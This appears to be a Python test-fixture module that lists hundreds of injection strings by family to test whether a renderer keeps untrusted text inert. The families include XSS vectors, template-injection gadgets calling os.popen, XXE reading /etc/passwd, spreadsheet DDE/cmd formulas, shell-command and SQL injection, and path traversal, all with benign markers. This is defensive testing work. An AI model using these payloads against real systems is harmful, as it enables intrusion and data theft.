# ruff: noqa: E501 - a list that is read by families, many to a line
"""Texts that would do something if they were put into a document as anything but text.

`INJECTIONS` are few and are opened one by one; `CORPUS` has them and hundreds more by families,
for what opens many at once. Whatever runs sets `window.ran`; whatever is fetched is of `HOST`,
which a test may replace by a server of its own that listens. `UNFIT` are texts that no event
can have: control characters and halves of surrogate pairs.
"""

HOST = "https://example.org/"

INJECTIONS = (
    "${window.ran=1}",
    "`;window.ran=1;`",
    "<img src=x onerror=window.ran=1>",
    "<svg onload=window.ran=1>",
    "</script><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "</style><script>window.ran=1</script>",
    "<!--<script>window.ran=1//",
    '"><script>window.ran=1</script>',
    "' onmouseover='window.ran=1' x='",
    '" autofocus onfocus="window.ran=1',
    "{{ 7*7 }}{% raw %}",
    "{{constructor.constructor('window.ran=1')()}}",
    "javascript:window.ran=1",
    "\\u003cscript\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\u2028window.ran=1\u2029",
    "]]><script>window.ran=1</script>",
    "&lt;script&gt;window.ran=1&lt;/script&gt;&#60;img src=x onerror=window.ran=1&#62;",
    "<iframe srcdoc='<script>parent.ran=1</script>'>",
    "<a href=javascript:window.ran=1 id=map-title>x</a>",
    "<base href=https://example.org/><link rel=stylesheet href=https://example.org/x.css>",
    "<meta http-equiv=refresh content=0;url=https://example.org/>",
    "%{window.ran=1}%0d%0a<script>",
    "-->'\"/></textarea><script>window.ran=1</script>",
)

_RUN = "window.ran=1"
_SCRIPT = f"<script>{_RUN}</script>"

_ELEMENTS = (
    *(
        f"<{tag} {handler}={_RUN}>x"
        for tag, handler in (
            ("body", "onload"), ("body", "onpageshow"), ("body", "onhashchange"),
            ("details open", "ontoggle"), ("marquee", "onstart"), ("input autofocus", "onfocus"),
            ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"),
            ("keygen autofocus", "onfocus"), ("video src=x", "onerror"), ("audio src=x", "onerror"),
            ("object data=x", "onerror"), ("script src=x", "onerror"), ("link href=x rel=icon", "onerror"),
            ("div contenteditable autofocus", "onfocus"), ("div style=animation-name:x", "onanimationstart"),
            ("div style=transition:1s", "ontransitionend"), ("p", "onclick"), ("b", "onmouseover"),
            ("x", "onpointerenter"), ("a href=# tabindex=0", "onfocus"), ("form", "onsubmit"),
            ("dialog open", "onclose"), ("svg", "onload"), ("svg/", "onload"), ("SVG\t", "ONLOAD"),
            ("img\nsrc=x\n", "onerror"), ("img src='x'/", "onerror"), ("img/src=x/", "onerror"),
            ("image src=x", "onerror"), ("isindex type=image src=x", "onerror"), ("frameset", "onload"),
            ("template", "onload"), ("math", "onclick"), ("slot", "onslotchange"), ("style", "onload"),
        )
    ),
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><script href=data:,{_RUN} />",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_RUN} />",
    f"<svg><a><animate attributeName=href values=javascript:{_RUN} /><text x=20 y=20>x</text></a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>{_SCRIPT}</svg>#x\"/>",
    f"<svg><foreignObject><iframe srcdoc='{_SCRIPT}'></foreignObject></svg>",
    f"<svg><style><img src=x onerror={_RUN}></style>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    "<iframe src=javascript:parent.ran=1>",
    f"<iframe src='data:text/html,{_SCRIPT}'>",
    f"<embed src=javascript:{_RUN}>",
    f"<object data=javascript:{_RUN}>",
    f"<form action=javascript:{_RUN}><input type=submit autofocus></form>",
    f"<button form=x formaction=javascript:{_RUN}>x</button>",
    f"<script type=module>{_RUN}</script>",
    f"<script src={HOST}x.js></script>",
    "<script type=importmap>{}</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"source":"list","urls":["{HOST}x"]}}]}}</script>',
    f"<link rel=prefetch href={HOST}x>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"<link rel=preconnect href={HOST}>",
    f"<link rel=manifest href={HOST}x>",
    f"<img src={HOST}x.png>",
    f"<img srcset='{HOST}x.png 2x'>",
    f"<picture><source srcset={HOST}x.png><img></picture>",
    f"<video poster={HOST}x.png>",
    f"<audio autoplay src={HOST}x.mp3>",
    f"<track src={HOST}x>",
    f"<input type=image src={HOST}x.png>",
    f"<body background={HOST}x.png>",
    f"<table background={HOST}x.png>",
    f"<svg><image href={HOST}x.png /></svg>",
    f"<svg><feImage href={HOST}x.png /></svg>",
    f"<a ping={HOST} href=#>x</a>",
    "<a id=geomap><a id=geomap name=data>x</a>",
    "<form id=geomap-data><input name=textContent></form>",
    "<img name=getElementById><img name=currentScript>",
    "<input id=map-title><div id=legend></div><div id=credit></div>",
    "<plaintext>", "<xmp>", "<listing>", "<frameset>", "<body>", "<html lang=x>", "<head>", "</body></html>",
)  # fmt: skip

_WAYS_OUT = tuple(
    f"{end}{_SCRIPT}"
    for end in (
        "</title>", "</TITLE >", "</textarea>", "</noscript>", "</noembed>", "</noframes>", "</svg>",
        "</math>", "</template>", "</select>", "</option></select>", "</table>", "</td></tr></tbody></table>",
        "</th>", "</dd></dl>", "</li></ul>", "</pre>", "</h1>", "</a>", "</p></div>", "</figure></main>",
        "</ScRiPt>", "</script\t>", "</script/x>", "</script\n", "</style\t>", "-->", "--!>", "<!-->", "<!--->",
        "]]>", "?>", "%>", "\">", "'>", "`>", "/>", "\\\">", "\\'>", ">", "\"'>", "&quot;>", "&#34;>", "&#x22;&#62;",
    )
)  # fmt: skip

_ATTRIBUTES = tuple(
    f"{quote}{gap}{attribute}"
    for quote in ('"', "'", "`", "")
    for gap, attribute in (
        (" ", f"onmouseover={_RUN} x="),
        ("/", f"onfocus={_RUN} autofocus tabindex=1 x="),
        ("\n", f"onpointermove={_RUN}//"),
        (" ", f"style=background:url({HOST}x.png) x="),
        (" ", f"href=javascript:{_RUN} x="),
        (" ", "id=geomap-data class=skip hidden x="),
    )
)

_SCRIPTS = (
    f"${{{_RUN}}}", f"`${{{_RUN}}}`", f"\\${{{_RUN}}}", f"\\\\${{{_RUN}}}", f"${{`${{{_RUN}}}`}}", f"`+({_RUN})+`",
    f"\\`+({_RUN})+\\`", f"';{_RUN};'", f'";{_RUN};"', f"\\';{_RUN};//", f'\\";{_RUN};//', f"\\\\\";{_RUN};//",
    f"*/{_RUN}/*", f"//\n{_RUN}", f"\\\n{_RUN}", f"\r{_RUN}\r", f"\u2028{_RUN}//", f"\u2029{_RUN}//", f"\\u2028{_RUN}",
    f"\\x3cscript\\x3e{_RUN}\\x3c/script\\x3e", f"\\u{{3c}}script\\u{{3e}}{_RUN}", f"\\074script\\076{_RUN}",
    f"<!--{_RUN}", f"--> {_RUN}", "<!--<script>", "<!--<script></script>", "</script>", "</script", "<script>", "<script",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "then", "length", "0", "-1", "undefined",
    "null", "NaN", "Infinity", "true", '{"__proto__":{"ran":1}}', "]}", '"]}', '"}]', ");", "});", "\\", "\\\\", "\\u", "\\x",
    "\\u000a", "\\u2028", f"$({_RUN})", f"$1$&$`$'{_RUN}", "%s %d %n %c", f"%c{_RUN}", f"eval('{_RUN}')",
    f"import('{HOST}x.js')", f"Function('{_RUN}')()", f"setTimeout('{_RUN}')", "debugger", f"fetch('{HOST}')",
)  # fmt: skip

_ADDRESSES = (
    f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}", f" \tjavascript:{_RUN}", f"javascript&colon;{_RUN}",
    f"java&Tab;script:{_RUN}", f"&#106;avascript:{_RUN}", f"javascript://example.org/%0a{_RUN}", f"javascript:/*--></title>*/{_RUN}",
    f"vbscript:{_RUN}", f"livescript:{_RUN}", f"data:text/html,{_SCRIPT}", "data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=window.ran=1>", "blob:https://example.org/x", "filesystem:https://example.org/x",
    "view-source:https://example.org/", "file:///etc/passwd", "file://example.org/share", "\\\\example.org\\share", "//example.org/x",
    "/\\example.org/x", "///example.org", "ftp://example.org/x", "ws://example.org/", "mailto:x@example.org", "tel:+1", "sms:1",
    "intent://example.org#Intent;end", "ms-word:ofe|u|https://example.org/x.docx", "search-ms:query=x", "about:blank", "chrome://version",
    "https:", "https://", "https:///x", "https://[", "https://[::1", "https://%00/", "http:/x", "HTTPS:x", "http://user:pass@/",
    'https://example.org/"onmouseover=window.ran=1 x="', "https://example.org/'><script>window.ran=1</script>",
    "https://example.org/ onmouseover=window.ran=1", "https://example.org/?a=1&lt;script&gt;", "https://example.org/\u202egpj.exe",
    "https://ex\u0430mple.org/", "https://example.org\u2044path", "https://example.org\\@example.com/", "https://user:pass@example.org/",
    "https://example.org:99999/", "https://example.org/)](javascript:window.ran=1)", "https://example.org/>)<script>window.ran=1</script>",
    "https://example.org/\tx", "https://example.org/#${window.ran=1}", "https://example.org/{{7*7}}",
)  # fmt: skip

_STYLES = (
    f"}}</style>{_SCRIPT}", "}*{display:none}", f"}}body{{background:url({HOST}x.png)}}", f"@import url({HOST}x.css);",
    f"@import '{HOST}x.css';", f"background:url({HOST}x.png)", f"background:url('javascript:{_RUN}')", f"width:expression({_RUN})",
    f"\\0065xpression({_RUN})", f"-moz-binding:url({HOST}x.xml#x)", f"behavior:url({HOST}x.htc)", "/**/", "*/", "<!--", "\\00003c/style\\00003e",
    f"@font-face{{font-family:x;src:url({HOST}x.woff)}}", f"url(#x) url({HOST}x)", "position:fixed;inset:0",
)  # fmt: skip

_LETTERS = (
    *(f"safe{chr(mark)}gnp.exe{chr(mark)}" for mark in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)),
    *(f"zero{chr(mark)}width{chr(mark)}<b>" for mark in (0x200B, 0x200C, 0x200D, 0x2060, 0xFEFF, 0x00AD, 0x034F, 0x180E, 0x3164, 0x115F)),
    *(f"odd{chr(mark)}letter" for mark in (0x2028, 0x2029, 0x85, 0xA0, 0x80, 0x9B, 0x9F, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0)),
    *(f"plane{chr(mark)}" for mark in (0x1F600, 0x1FFFE, 0xE0001, 0xE007F, 0xF0000, 0x10FFFF, 0x1D7D8, 0x20000)),
    "<\u017fcript>window.ran=1</\u017fcript>", "＜script＞window.ran=1＜/script＞", "\ufe64script\ufe65window.ran=1", "‹script›", "<\u0131mg src=x onerror=window.ran=1>",
    "<\u212amg>", "\u212a\u0130\u0131\u017f", "e\u0301" * 40, "Z" + "\u0300\u0301\u0302\u0303" * 60, "\u0e33" * 50, "👩‍👩‍👧‍👦" * 20, "\U0001f3f4\U000e0067\U000e0062\U000e007f",
    "\u200f\u202b<script>\u202c", "\ufeff<script>window.ran=1</script>", "+ADw-script+AD4-window.ran+AD0-1+ADw-/script+AD4-", "\u1e9e\ufb01\u2126",
    "%E2%80%AE", "\u0661\u0662\u0663", "א" * 30 + "<b>", "\u06dd\u0600", "ﷺ" * 30, "\u115f\u1160" * 20,
)  # fmt: skip

_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ this.get_name() }}",
    "{{ cycler.__init__.__globals__.os.popen('touch ran').read() }}", "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{# comment", "{% endmacro %}", "{%- raw -%}", "{{", "}}", "{%", "%}", "{{{x}}}", "{{!x}}",
    "{0.__class__}", "{version}", "{number}", "{source.__class__.__mro__}", "{}", "{", "}", "{{}}", "%(x)s", "%s", "$name", "${name}", "#{7*7}",
    "<%= 7*7 %>", "<?php echo 7*7 ?>", "<% out %>", "@{7*7}", "*{7*7}", "[[7*7]]", "[(7*7)]", "v-html=x", "{{constructor}}", "ng-init=window.ran=1", "{s}.{z}/{x}/{y}", "T(java.lang.Runtime)",
)  # fmt: skip

_XML = (
    "<![CDATA[<script>window.ran=1</script>]]>", "]]>", "]]><x/><![CDATA[", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    f"<!DOCTYPE x SYSTEM '{HOST}x.dtd'>", f"<!ENTITY % p SYSTEM '{HOST}x'> %p;", "&e;", "&lol9;", "&amp;lt;", "&#0;", "&#x1;", "&#xD800;", "&#65;", "&#x3c;script&#x3e;", "&", "&&", "&;",
    "<?xml version='1.0'?>", f"<?xml-stylesheet href='{HOST}x.xsl'?>", f"<xi:include href='{HOST}x' parse='text'/>", "<a xmlns='http://www.w3.org/1999/xhtml' onclick='window.ran=1'/>",
    f"</name></Placemark><NetworkLink><Link><href>{HOST}x.kml</href></Link></NetworkLink>", f"</description><styleUrl>{HOST}x#y</styleUrl>", "$[name]", "$[description]", "$[geDirections]",
    f"<description><![CDATA[<img src='{HOST}x.png'>]]></description>", f"<svg xmlns:xlink='http://www.w3.org/1999/xlink'><image xlink:href='{HOST}x.png'/></svg>", f"</text><script>{_RUN}</script><text>", f"</tspan></text><image href='{HOST}x.png'/>",
)  # fmt: skip

_CELLS = (
    *(f"{sign}1+1" for sign in ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", " =", "\u00a0=", "\u3000=", "\ufeff=", "\u200b=")),
    f'=HYPERLINK("{HOST}?"&A1,"x")', f'=WEBSERVICE("{HOST}")', f'=IMPORTXML("{HOST}","//a")', f'=IMAGE("{HOST}x.png")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"x\")", "%0A=1+1", "x\n=1+1", "x\r\n=1+1,", '",=1+1', '";=1+1', "x,=1+1", "x;=1+1", "x\t=1+1", "'=1+1", "''=1+1", "\"=1+1\"", "=", "-", "+", "@", "|calc", "=\n1", "=-1", "--1", "=1e3",
)  # fmt: skip

_MARKDOWN = (
    f"[x](javascript:{_RUN})", f"![x]({HOST}x.png)", f"<{HOST}x>", HOST, "www.example.org", "x@example.org", f"[x]: {HOST}x", f"[x][]\n\n[x]: javascript:{_RUN}", "# heading", "## x", "> quote", "* item", "- item", "+ item",
    "1. item", "1) item", "---", "***", "===", "```\ncode", "~~~", "    code", "| a | b |", "a | b", "|---|", "\\|", "**x**", "__x__", "~~x~~", "`x`", "<b>x</b>", "<!-- x", "[^1]", "[^1]: x", "$$x$$", "$x$", ":smile:", "- [ ] x", "x  \ny", "\\", "&copy;", "[x](<y> \"z\")", "![", "](x)", "](javascript:window.ran=1)",
    "<details><summary>x</summary>", "{.class #id onclick=window.ran=1}", "[[x]]", "@import x", "<https://example.org/\" onmouseover=window.ran=1>",
)  # fmt: skip

_DOCUMENTS = (
    f'{{ INCLUDEPICTURE "{HOST}x.png" }}', f'{{ INCLUDETEXT "{HOST}x" }}', '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" }', f'{{ HYPERLINK "{HOST}" }}', "{ QUOTE 65 }",
    "</w:t></w:r><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r>", f"<w:hyperlink r:id='x'>{HOST}</w:hyperlink>", "<w:altChunk r:id='x'/>", "_rels/.rels", "x\tx",
    "(x) Tj ET BT", "endstream endobj", f"/URI ({HOST})", "/JavaScript /JS (app.alert(1))", "\\( \\) \\", ") >> endobj", "<< /S /JavaScript >>", "$\\frac{1}{0}$", "$\\mathdefault{x", "\\input{/etc/passwd}", "\\write18{touch ran}", "$x^{y_{z}$", "\\special{x}", "$$", "%comment",
    "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul.html", "x.html%00.png", "$(touch ran)", "`touch ran`", "; touch ran", "| touch ran", "&& touch ran", "-rf", "--help", "~root", "x'; DROP TABLE gpkg_contents; --", '"; DROP TABLE events; --', "1 OR 1=1", "[1]", "x\" UNION SELECT 1 --",
)  # fmt: skip

_OVERLONG = (
    "A" * 9_900, "<" * 5_000, '"' * 5_000, "<b>" * 3_000, "&" * 9_000, "${" * 4_000, "{{" * 4_000, "漢" * 9_000, "a " * 4_900, "\u202e" * 3_000, "(" * 9_000, "\\" * 9_000, "\n" * 20 + "x" * 3_000,
)  # fmt: skip

FAMILIES = {
    "elements": _ELEMENTS,
    "ways out": _WAYS_OUT,
    "attributes": _ATTRIBUTES,
    "scripts": _SCRIPTS,
    "addresses": _ADDRESSES,
    "styles": _STYLES,
    "letters": _LETTERS,
    "templates": _TEMPLATES,
    "xml": _XML,
    "cells": _CELLS,
    "markdown": _MARKDOWN,
    "documents": _DOCUMENTS,
    "overlong": _OVERLONG,
}

CORPUS = tuple(dict.fromkeys([*INJECTIONS, *(text for many in FAMILIES.values() for text in many)]))

UNFIT = tuple(
    f"x{chr(code)}y"
    for code in (*range(0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, 0xD800, 0xDBFF, 0xDC00, 0xDFFF)
)


def listened(text: str, host: str) -> str:
    """Return a text whose addresses are those of a server that listens."""
    return text.replace(HOST, host).replace("//example.org/", host.removeprefix("http:"))
